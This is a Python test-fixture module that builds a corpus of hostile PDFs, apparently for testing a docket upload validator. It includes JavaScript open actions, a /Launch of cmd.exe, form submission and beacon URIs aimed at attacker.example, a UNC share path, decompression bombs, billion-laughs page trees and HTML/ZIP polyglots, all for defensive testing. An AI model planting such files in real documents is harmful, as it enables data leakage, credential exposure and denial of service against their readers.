"""The hostile PDF corpus: encryption, JavaScript and other actions, embedded files,
media, forms, XFA, and files broken in one structural way each (truncated, bad xref,
deep nesting, decompression bombs, huge page counts, other formats, polyglots).

Each function writes one file at `path` and returns `path` (see pdfmaker.py).
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path
from typing import Any

from pdfmaker import DEFAULT_TEXT, assemble_pdf, pdf_bytes, stream_object
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import LETTER
from reportlab.pdfgen import canvas


def make_encrypted_pdf(path: Path, *, user_password: str = "") -> Path:
    """Write an encrypted PDF; the default empty user password opens without asking."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    return _write(writer, path)


JS_PLACES = ("open_action", "page_aa", "annotation", "names", "obfuscated")


def make_javascript_pdf(
    path: Path, *, where: Iterable[str] = ("open_action", "page_aa")
) -> Path:
    """Write a PDF carrying JavaScript in each place named in `where` (JS_PLACES).

    "obfuscated" spells the names with #xx escapes (/J#53, /Java#53cript), as
    malicious files do to dodge byte searches.
    """
    where = tuple(where)
    if "obfuscated" in where:
        objects = [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>",
        ]
        path.write_bytes(assemble_pdf(objects))
        return path
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    page = writer.pages[0]
    if "open_action" in where:
        writer._root_object[NameObject("/OpenAction")] = _js_action("app.alert(1)")
    if "page_aa" in where:
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _js_action("app.alert(2)")}
        )
    if "annotation" in where:
        _add_annotation(
            writer,
            page,
            {"/Subtype": NameObject("/Link"), "/A": _js_action("app.alert(3)")},
        )
    if "names" in where:
        tree = DictionaryObject(
            {
                NameObject("/Names"): ArrayObject(
                    [TextStringObject("init"), _js_action("app.alert(4)")]
                )
            }
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    return _write(writer, path)


def make_launch_pdf(path: Path) -> Path:
    """Write a PDF whose OpenAction launches an external program."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
            NameObject("/Win"): DictionaryObject(
                {
                    NameObject("/F"): TextStringObject("cmd.exe"),
                    NameObject("/P"): TextStringObject("/c calc"),
                }
            ),
        }
    )
    return _write(writer, path)


def make_embedded_file_pdf(path: Path, *, how: str = "names") -> Path:
    """Write a PDF with a file inside it: "names" (/EmbeddedFiles) or "annotation"."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    if how == "names":
        writer.add_attachment("payload.txt", b"not for the docket")
    elif how == "annotation":
        data = DecodedStreamObject()
        data.set_data(b"not for the docket")
        data[NameObject("/Type")] = NameObject("/EmbeddedFile")
        filespec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject("payload.txt"),
                NameObject("/EF"): DictionaryObject(
                    {NameObject("/F"): writer._add_object(data)}
                ),
            }
        )
        _add_annotation(
            writer,
            writer.pages[0],
            {
                "/Subtype": NameObject("/FileAttachment"),
                "/FS": writer._add_object(filespec),
            },
        )
    else:
        raise ValueError(how)
    return _write(writer, path)


def make_media_pdf(path: Path, *, subtype: str = "/Sound") -> Path:
    """Write a PDF with an audio/video annotation (/Sound, /Movie, /RichMedia)."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    _add_annotation(writer, writer.pages[0], {"/Subtype": NameObject(subtype)})
    return _write(writer, path)


def make_form_pdf(
    path: Path, *, value: str = "Jane Q. Debtor", text: str = DEFAULT_TEXT
) -> Path:
    """Write a PDF with one filled-in text field (an AcroForm widget)."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=LETTER, invariant=1)
    pdf.setFont("Helvetica", 11)
    text_object = pdf.beginText(54, 720)
    for line in text.split("\n"):
        text_object.textLine(line)
    pdf.drawText(text_object)
    pdf.drawString(54, 470, "Name of debtor:")
    pdf.acroForm.textfield(
        name="debtor_name",
        value=value,
        x=150,
        y=460,
        width=250,
        height=22,
        fontName="Helvetica",
        fontSize=11,
        borderWidth=1,
    )
    pdf.showPage()
    pdf.save()
    path.write_bytes(buffer.getvalue())
    return path


def make_xfa_pdf(path: Path) -> Path:
    """Write a PDF whose AcroForm carries an XFA (dynamic form) packet."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script/></xdp:xdp>')
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): writer._add_object(xfa),
        }
    )
    return _write(writer, path)


UNC_PATH = "\\\\attacker.example\\share\\x.pdf"

# One hostile file per action kind (dockets/pdf/actions.py): each fires
# without a click, or reaches outside the document when clicked.
HOSTILE_ACTIONS = (
    "open_gotor",
    "open_gotoe",
    "open_importdata",
    "open_submitform",
    "open_resetform",
    "open_hide",
    "open_named_print",
    "open_uri",
    "open_goto_next_uri",
    "document_aa_uri",
    "page_aa_gotor",
    "annotation_aa_uri",
    "field_aa_submitform",
    "link_gotor",
    "link_importdata",
    "link_named_print",
    "link_unc_uri",
    "link_file_uri",
)
# Files that do only what Word, Acrobat and browsers write: open at a page,
# move within the document, link to a web page.
BENIGN_ACTIONS = (
    "open_destination",
    "open_goto",
    "link_https",
    "link_goto",
    "link_named_next",
)


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        if isinstance(value, str):
            value = (
                NameObject(value) if value.startswith("/") else TextStringObject(value)
            )
        action[NameObject("/" + key)] = value
    return action


def make_action_pdf(path: Path, kind: str, *, text: str = DEFAULT_TEXT) -> Path:
    """Write a two-page text PDF carrying one action of `kind`.

    `kind` is one of HOSTILE_ACTIONS or BENIGN_ACTIONS: "open_*" is the
    catalog's /OpenAction, "*_aa_*" an /AA entry, "link_*" a link annotation's
    /A (run by a click).
    """
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes(pages=2, text=text)))
    root = writer._root_object
    page = writer.pages[0]
    second = writer.pages[1].indirect_reference
    fit = ArrayObject([second, NameObject("/Fit")])
    remote = TextStringObject(UNC_PATH)
    actions = {
        "gotor": lambda: _action(
            "/GoToR", F=remote, D=ArrayObject([NumberObject(0), NameObject("/Fit")])
        ),
        "gotoe": lambda: _action("/GoToE", F=remote, D=TextStringObject("x")),
        "importdata": lambda: _action("/ImportData", F=remote),
        "submitform": lambda: _action(
            "/SubmitForm", F=TextStringObject("https://attacker.example/collect")
        ),
        "resetform": lambda: _action("/ResetForm"),
        "hide": lambda: _action("/Hide", T=TextStringObject("debtor_name")),
        "named_print": lambda: _action("/Named", N="/Print"),
        "named_next": lambda: _action("/Named", N="/NextPage"),
        "uri": lambda: _action(
            "/URI", URI=TextStringObject("https://attacker.example/beacon.gif")
        ),
        "unc_uri": lambda: _action("/URI", URI=remote),
        "file_uri": lambda: _action(
            "/URI", URI=TextStringObject("file://attacker.example/share/x.pdf")
        ),
        "https": lambda: _action(
            "/URI",
            URI=TextStringObject("https://www.law.cornell.edu/uscode/text/11/362"),
        ),
        "goto": lambda: _action("/GoTo", D=fit),
    }
    place, _, what = kind.partition("_")
    if kind == "open_destination":
        root[NameObject("/OpenAction")] = ArrayObject(
            [page.indirect_reference, NameObject("/XYZ"), *(NullObject(),) * 3]
        )
    elif kind == "open_goto_next_uri":
        goto = actions["goto"]()
        goto[NameObject("/Next")] = actions["uri"]()
        root[NameObject("/OpenAction")] = goto
    elif place == "open":
        root[NameObject("/OpenAction")] = actions[what]()
    elif kind == "document_aa_uri":
        root[NameObject("/AA")] = DictionaryObject(
            {NameObject("/WC"): actions["uri"]()}
        )
    elif kind == "page_aa_gotor":
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): actions["gotor"]()}
        )
    elif kind == "annotation_aa_uri":
        _add_annotation(
            writer,
            page,
            {
                "/Subtype": NameObject("/Link"),
                "/AA": DictionaryObject({NameObject("/PV"): actions["uri"]()}),
            },
        )
    elif kind == "field_aa_submitform":
        _add_annotation(
            writer,
            page,
            {
                "/Subtype": NameObject("/Widget"),
                "/FT": NameObject("/Tx"),
                "/T": TextStringObject("debtor_name"),
                "/AA": DictionaryObject({NameObject("/Fo"): actions["submitform"]()}),
            },
        )
    elif place == "link":
        _add_annotation(
            writer, page, {"/Subtype": NameObject("/Link"), "/A": actions[what]()}
        )
    else:
        raise ValueError(kind)
    return _write(writer, path)


def make_empty_pdf(path: Path) -> Path:
    """Write a well-formed PDF with zero pages."""
    return _write(PdfWriter(), path)


def make_truncated_pdf(path: Path, *, keep: float = 0.6) -> Path:
    """Write the first `keep` fraction of a valid 3-page PDF (an interrupted upload)."""
    data = pdf_bytes(pages=3)
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def make_malformed_xref_pdf(path: Path) -> Path:
    """Write a PDF whose startxref and xref offsets all point to the wrong bytes."""
    data = pdf_bytes(pages=2)
    xref_at = data.rindex(b"\nxref\n") + 1
    start_at = data.rindex(b"startxref\n") + len(b"startxref\n")
    end_at = data.index(b"\n", start_at)
    head, table = data[:xref_at], data[xref_at:start_at]
    # Shift every "nnnnnnnnnn 00000 n" offset by 7 bytes, then point startxref
    # into the middle of an object.
    entries = table.split(b"\n")
    shifted = [
        b"%010d%s" % (int(line[:10]) + 7, line[10:]) if line.endswith(b" n ") else line
        for line in entries
    ]
    broken = head + b"\n".join(shifted) + b"%d" % (xref_at // 2) + data[end_at:]
    path.write_bytes(broken)
    return path


def make_deeply_nested_pdf(
    path: Path, *, depth: int = 100_000, kind: str = "array"
) -> Path:
    """Write a PDF with an object nested `depth` levels deep.

    "array" nests [[[...]]], "dict" nests << /A << /A ... >> >>, and "chain"
    links `depth` indirect objects each pointing at the next one.
    """
    if kind == "array":
        nested = b"[" * depth + b"]" * depth
    elif kind == "dict":
        nested = b"<< /A " * depth + b">> " * depth
    elif kind == "chain":
        nested = b"5 0 R"
    else:
        raise ValueError(kind)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /PieceInfo " + nested + b" >>",
        stream_object(b"BT /F1 12 Tf 72 720 Td (Nested) Tj ET"),
    ]
    if kind == "chain":
        first = len(objects) + 1
        objects += [b"[%d 0 R]" % (n + 1) for n in range(first, first + depth - 1)]
        objects.append(b"null")
    path.write_bytes(assemble_pdf(objects))
    return path


def make_bomb_pdf(path: Path, *, inflated_bytes: int = 2 << 30) -> Path:
    """Write a one-page PDF whose content stream inflates to `inflated_bytes`.

    The file is about 1/1000 of that size: a 1 MiB block of zeros is deflated
    once with a full flush (which makes blocks independent) and repeated.
    """
    chunk_size = 1 << 20
    compressor = zlib.compressobj(9)
    block = compressor.compress(bytes(chunk_size)) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeats = max(1, inflated_bytes // chunk_size)
    body = block[2:]  # drop the zlib header; it is written once below
    total = repeats * chunk_size
    adler = ((total % 65521) << 16) | 1  # adler32 of n zero bytes
    # zlib header, the repeated blocks, an empty final block (03 00), adler32.
    deflated = b"\x78\xda" + body * repeats + b"\x03\x00" + adler.to_bytes(4, "big")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(deflated)
        + deflated
        + b"\nendstream",
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def make_huge_page_count_pdf(
    path: Path, *, fanout: int = 1000, levels: int = 3
) -> Path:
    """Write a tiny file whose page tree claims fanout**levels pages.

    Each intermediate node lists the same child `fanout` times, so the tree
    expands like a "billion laughs" attack while the file stays a few kB.
    """
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        number = level + 2
        child = number + 1
        count = fanout ** (levels - level)
        kids = b" ".join([b"%d 0 R" % child] * fanout)
        parent = b"" if level == 0 else b" /Parent %d 0 R" % (number - 1)
        objects.append(
            b"<< /Type /Pages /Kids [%s] /Count %d%s >>" % (kids, count, parent)
        )
    objects.append(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (levels + 1)
    )
    path.write_bytes(assemble_pdf(objects))
    return path


def make_not_a_pdf(path: Path, *, kind: str = "docx") -> Path:
    """Write a non-PDF under a .pdf name: a Word-like ZIP, or plain "text"."""
    if kind == "docx":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("word/document.xml", "<w:document>Motion</w:document>")
        path.write_bytes(buffer.getvalue())
    elif kind == "text":
        path.write_text("MOTION TO EXTEND TIME\nThis is a plain text file.\n")
    else:
        raise ValueError(kind)
    return path


def make_polyglot_pdf(path: Path, *, kind: str = "html_prefix") -> Path:
    """Write a file that is a PDF and something else at once.

    "html_prefix": an HTML page whose %PDF- header sits a few hundred bytes in.
    "zip_appended": a valid PDF with a ZIP archive appended after %%EOF (ZIP
    readers look for their directory at the end, PDF readers at the start).
    """
    data = pdf_bytes()
    if kind == "html_prefix":
        prefix = b"<html><body><script>alert(document.domain)</script><!--\n"
        path.write_bytes(prefix + data + b"\n-->\n</body></html>\n")
    elif kind == "zip_appended":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
            archive.writestr("payload.js", "var x = 1;\n" * 400)
        path.write_bytes(data + buffer.getvalue())
    else:
        raise ValueError(kind)
    return path


def _js_action(script: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )


def _add_annotation(writer: PdfWriter, page, entries: dict) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject(
                [FloatObject(v) for v in (72, 72, 144, 144)]
            ),
            NameObject("/F"): NumberObject(4),
        }
    )
    for key, value in entries.items():
        annotation[NameObject(key)] = value
    annotations = page.get("/Annots")
    if annotations is None:
        annotations = ArrayObject()
        page[NameObject("/Annots")] = annotations
    annotations.get_object().append(writer._add_object(annotation))


def _write(writer: PdfWriter, path: Path) -> Path:
    with path.open("wb") as handle:
        writer.write(handle)
    return path
